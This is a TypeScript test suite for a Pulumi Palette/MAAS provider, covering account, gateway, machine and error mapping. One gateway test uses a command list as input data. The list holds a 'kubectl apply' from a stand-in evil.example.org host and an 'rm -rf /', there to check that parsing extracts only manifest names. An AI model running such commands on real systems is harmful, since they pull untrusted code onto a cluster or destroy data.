import assert from "node:assert/strict";
import { readError } from "../../provider/palette/client";
import * as accounts from "../../provider/palette/cloud-accounts/cloud-accounts";
import type { WireAccount } from "../../provider/palette/cloud-accounts/wire";
import { decoded } from "../../provider/palette/clusters/kubeconfig";
import { reasonOf } from "../../provider/palette/clusters/repaves";
import { changedConfig } from "../../provider/palette/clusters/settings";
import { objections } from "../../provider/palette/clusters/verdict";
import * as gateways from "../../provider/palette/gateways/gateways";
import type { WireGateway } from "../../provider/palette/gateways/wire";
import { isOfScope } from "../../provider/palette/homes";
import * as machines from "../../provider/palette/machine-pools/machines";
import { createdAt, isMasked, mergedLabels, tagsOf } from "../../provider/palette/metadata";

const account = {
  name: "rack1",
  scope: "project" as const,
  gatewayId: "G1",
  apiEndpoint: "http://maas:5240/MAAS",
  apiKey: "a:b:c",
  adopt: false,
};

const wireAccount: WireAccount = {
  kind: "maas",
  metadata: {
    name: "rack1",
    uid: "A1",
    labels: { env: "prod", mark: "spectro__tag", other: "x" },
    annotations: { overlordUid: "G1", scope: "project", "pulumi-palette-maas/owner": "p/s/rack1" },
  },
  spec: {
    apiEndpoint: "http://maas:5240/MAAS/",
    apiKey: "********",
    preferredSubnets: ["10.0.0.0/16"],
    token: "****",
    future: 1,
  },
  status: { state: "Running" },
};

describe("a cloud account on the wire", () => {
  it("is created with its gateway and its marker as annotations", () => {
    assert.deepEqual(accounts.toWire({ ...account, tags: { env: "prod", mark: "" } }, { owner: "p/s/rack1" }), {
      metadata: {
        name: "rack1",
        labels: { env: "prod", mark: "spectro__tag" },
        annotations: { overlordUid: "G1", "pulumi-palette-maas/owner": "p/s/rack1" },
      },
      spec: { apiEndpoint: "http://maas:5240/MAAS", apiKey: "a:b:c" },
    });
  });

  it("is rewritten with what others set, with the program's key, and never with a mask", () => {
    const next = accounts.changed(
      wireAccount,
      { ...account, gatewayId: "G2", tags: { env: "dev" } },
      { tags: { mark: "" } },
    );
    assert.deepEqual(next, {
      kind: "maas",
      metadata: {
        name: "rack1",
        uid: "A1",
        labels: { env: "dev", other: "x" },
        annotations: { overlordUid: "G2", scope: "project", "pulumi-palette-maas/owner": "p/s/rack1" },
      },
      spec: {
        apiEndpoint: "http://maas:5240/MAAS",
        apiKey: "a:b:c",
        preferredSubnets: ["10.0.0.0/16"],
        future: 1,
      },
    });
  });

  it("loses its subnets only where the program had named some", () => {
    const spec = (prior: object): unknown =>
      JSON.parse(JSON.stringify(accounts.changed(wireAccount, account, prior))).spec;
    assert.deepEqual(Object(spec({})).preferredSubnets, ["10.0.0.0/16"]);
    assert.deepEqual(Object(spec({ preferredSubnets: ["10.0.0.0/16"] })).preferredSubnets, []);
  });

  it("is read in the words of the program, without its key", () => {
    assert.deepEqual(accounts.observe(wireAccount, "P1", undefined, "prod"), {
      args: {
        name: "rack1",
        scope: "project",
        project: "prod",
        gatewayId: "G1",
        apiEndpoint: "http://maas:5240/MAAS",
        preferredSubnets: ["10.0.0.0/16"],
        tags: { env: "prod", mark: "", other: "x" },
      },
      marker: { owner: "p/s/rack1" },
      state: "Running",
    });
  });

  it("shows only the tags that the program names", () => {
    const named = accounts.observe(wireAccount, "", { ...account, tags: { env: "dev" } }, undefined);
    assert.deepEqual([named.args.tags, named.args.scope], [{ env: "prod" }, "tenant"]);
    assert.deepEqual(accounts.observe(wireAccount, "", account, undefined).args.tags, {});
  });
});

describe("a gateway on the wire", () => {
  const wire: WireGateway = {
    metadata: { name: "rack1", uid: "G1", labels: { a: "1" }, annotations: { note: "x" } },
    spec: { isSelfHosted: true, spectroClusterUid: "" },
    status: { state: "Pending" },
  };

  it("is read as running only where Palette says Running, or where it is Palette's own", () => {
    const running = (part: Partial<WireGateway>): boolean => gateways.observe({ ...wire, ...part }, {}).running;
    assert.equal(running({}), false);
    assert.equal(running({ status: { state: "Running" } }), true);
    assert.equal(running({ spec: { isSystem: true } }), true);
    assert.equal(running({ status: null }), false);
  });

  it("keeps what others wrote into its metadata", () => {
    assert.deepEqual(gateways.toWire(wire, { marker: { owner: "p/s/g" } }, undefined), {
      name: "rack1",
      labels: { a: "1" },
      annotations: { note: "x", "pulumi-palette-maas/owner": "p/s/g" },
    });
    assert.deepEqual(gateways.toWire(wire, { name: "new", tags: { b: "" } }, { tags: { a: "1" } }), {
      name: "new",
      labels: { b: "spectro__tag" },
      annotations: { note: "x" },
    });
  });

  it("takes from its commands which manifests to fetch, in their order and from nowhere else", () => {
    const commands = [
      "kubectl apply -f https://api.example.com/v1/pcg/G1/services/jet/manifest?token=abc",
      "kubectl apply -f 'https://evil.example.org/v1/pcg/G1/services/ally/manifest'",
      "rm -rf /",
    ];
    assert.deepEqual(gateways.manifestsOf(commands), [
      { service: "jet", query: { token: "abc" } },
      { service: "ally", query: {} },
    ]);
  });
});

describe("a machine on the wire", () => {
  const wire = (status: machines.WireMachine["status"]): machines.WireMachine => ({
    metadata: { uid: "M1", name: "c-w-1" },
    spec: { hostname: "rack3-07", az: "az1" },
    status,
  });

  for (const [status, state, stateName] of [
    [null, "pending", "Pending"],
    [{ instanceState: "Pending" }, "pending", "Pending"],
    [{ instanceState: "Provisioning" }, "provisioning", "Provisioning"],
    [{ instanceState: "Provisioned" }, "provisioning", "Provisioned"],
    [{ instanceState: "Running", ready: true }, "running", "Running"],
    [{ instanceState: "Running" }, "running", "Running"],
    [{ instanceState: "Running", ready: false }, "provisioning", "Running, not ready"],
    [{ instanceState: "Deleting" }, "deleting", "Deleting"],
    [{ instanceState: "Failed" }, "failed", "Failed"],
    [{ instanceState: "Lost" }, "unknown", "Lost"],
  ] as const) {
    it(`is ${state} where Palette says ${JSON.stringify(status)}`, () => {
      assert.deepEqual(machines.observe(wire(status)), {
        id: "M1",
        name: "c-w-1",
        hostname: "rack3-07",
        zone: "az1",
        state,
        stateName,
      });
    });
  }

  it("tells its newest complaint, and none while it runs", () => {
    const health = {
      conditions: [
        { type: "BootstrapReady", status: "True", message: "fine" },
        { type: "MachineDeployFailed", status: "False", message: "No available machine matches constraints" },
      ],
    };
    const told = (instanceState: string): string => machines.observe(wire({ instanceState, health })).stateName;
    assert.equal(told("Pending"), "Pending: No available machine matches constraints");
    assert.equal(told("Running"), "Running");
  });
});

describe("small things on the wire", () => {
  it("labels merge: others' stay, the program's win, given-up ones go", () => {
    assert.deepEqual(mergedLabels({ a: "1", b: "2", c: "3" }, { a: "9" }, { a: "1", b: "2" }), { a: "9", c: "3" });
    assert.deepEqual(mergedLabels(null, undefined, undefined), {});
    assert.deepEqual(tagsOf(undefined), {});
  });

  it("a zero time means that none is set", () => {
    assert.equal(createdAt({ creationTimestamp: "0001-01-01T00:00:00.000Z" }), undefined);
    assert.equal(createdAt({ creationTimestamp: "2026-01-01T00:00:00Z" }), Date.UTC(2026, 0, 1));
    assert.equal(createdAt({}), undefined);
  });

  it("masks are told from values with a star in them", () => {
    assert.deepEqual(["********", "*", "ab****yz", "a*b", ""].map(isMasked), [true, true, true, false, false]);
  });

  it("an object is of a scope by its annotation", () => {
    const of = (scope: string | undefined, project: string): boolean =>
      isOfScope(scope === undefined ? {} : { annotations: { scope } }, project);
    assert.deepEqual([of("tenant", "P1"), of("project", "P1"), of(undefined, "P1")], [false, true, true]);
    assert.deepEqual([of("tenant", ""), of("project", ""), of("system", "")], [true, false, true]);
  });

  it("keys and servers of the cluster change only where the program or the record names them", () => {
    const there = { sshKeys: [" k1 ", "k2"], ntpServers: ["n1"] };
    type Given = { sshKeys?: string[]; ntpServers?: string[] };
    const table: [args: Given, prior: Given, next: Given][] = [
      [{ sshKeys: ["k2", "k1"] }, {}, {}],
      [{ sshKeys: ["k2"] }, {}, { sshKeys: ["k2"] }],
      [{}, {}, {}],
      [{}, { ntpServers: ["n1"] }, { ntpServers: [] }],
      [{ ntpServers: [] }, {}, {}],
    ];
    for (const [args, prior, next] of table) assert.deepEqual(changedConfig(there, args, prior), next);
  });

  it("a kubeconfig is decoded only where the whole text is base64", () => {
    const text = "apiVersion: v1\nkind: Config\n";
    assert.equal(decoded(text), text);
    assert.equal(decoded(`${Buffer.from(text).toString("base64")}\n`), text);
  });

  it("a reason to reinstall tells the versions", () => {
    const pack = { current: { name: "kubernetes", tag: "1.30.4" }, target: { name: "kubernetes", tag: "1.31.2" } };
    assert.equal(reasonOf({ message: "Pack is replaced", pack }), "Pack is replaced (kubernetes 1.30.4 => 1.31.2)");
    assert.equal(reasonOf({ code: "SystemUpgrade" }), "SystemUpgrade");
    assert.equal(
      reasonOf({ message: "Values differ", pack: { target: { name: "os" }, diffConfigKeys: ["a.b"] } }),
      "Values differ (os a.b)",
    );
  });

  it("a verdict becomes a line per objection", () => {
    assert.deepEqual(
      objections({
        machinePools: {
          results: [
            { name: "cp", errors: [{ code: "X", message: "too small" }] },
            { name: "w", errors: null },
          ],
        },
        profiles: [
          { uid: "P", packs: { results: [{ displayName: "Calico", name: "cni", errors: [{ code: "Bad" }] }] } },
        ],
      }),
      ["pool cp: too small", "pack Calico: Bad"],
    );
    assert.deepEqual(objections({ machinePools: null, profiles: null }), []);
  });
});

describe("a refusal of Palette", () => {
  const read = (status: number, body: unknown) =>
    readError(status, {}, typeof body === "string" ? body : JSON.stringify(body));

  for (const [status, code, kind] of [
    [400, "InvalidMachinePool", "invalid"],
    [422, "PackVariablesUndefined", "invalid"],
    [404, "ResourceNotFound", "not-found"],
    [400, "ResourceNotFound", "unavailable"],
    [403, "ResourceNotFound", "unavailable"],
    [404, "RouteUnknown", "unavailable"],
    [404, "PathNotFound", "unavailable"],
    [404, undefined, "unavailable"],
    [403, undefined, "unavailable"],
    [400, "BackupNotConfigured", "not-found"],
    [401, "InvalidCredential", "denied"],
    [403, "OperationNotAllowed", "denied"],
    [409, "DuplicateName", "conflict"],
    [429, "TooManyRequests", "unavailable"],
    [500, "Internal", "unavailable"],
    [503, "Busy", "unavailable"],
  ] as const) {
    it(`${status} ${code ?? "without a code"} is ${kind}`, () => {
      const refusal = read(status, { code, message: "why" });
      assert.equal(refusal.kind, kind);
      assert.equal(refusal.code, code);
      if (code) assert.match(refusal.message, /why/);
      else assert.deepEqual([refusal.message, refusal.foreign], ["", true]);
    });
  }

  it("names the setting and the environment variable where the key is refused", () => {
    for (const status of [401, 403]) {
      const { message } = read(status, { code: "X", message: "no" });
      assert.match(message, /palette-maas:paletteApiKey/);
      assert.match(message, /PALETTE_API_KEY/);
    }
  });

  it("quotes nothing of a body that is not Palette's", () => {
    assert.deepEqual(read(502, "<html>secret</html>"), { kind: "unavailable", message: "it gave no reason" });
    assert.deepEqual(read(503, { message: "secret" }), { kind: "unavailable", message: "it gave no reason" });
    for (const body of ["[1]", "<html>secret</html>", "default backend - 404", { code: 404, message: "secret" }, ""]) {
      for (const status of [400, 403, 404, 409])
        assert.deepEqual(read(status, body), { kind: "unavailable", message: "", foreign: true });
    }
  });
});
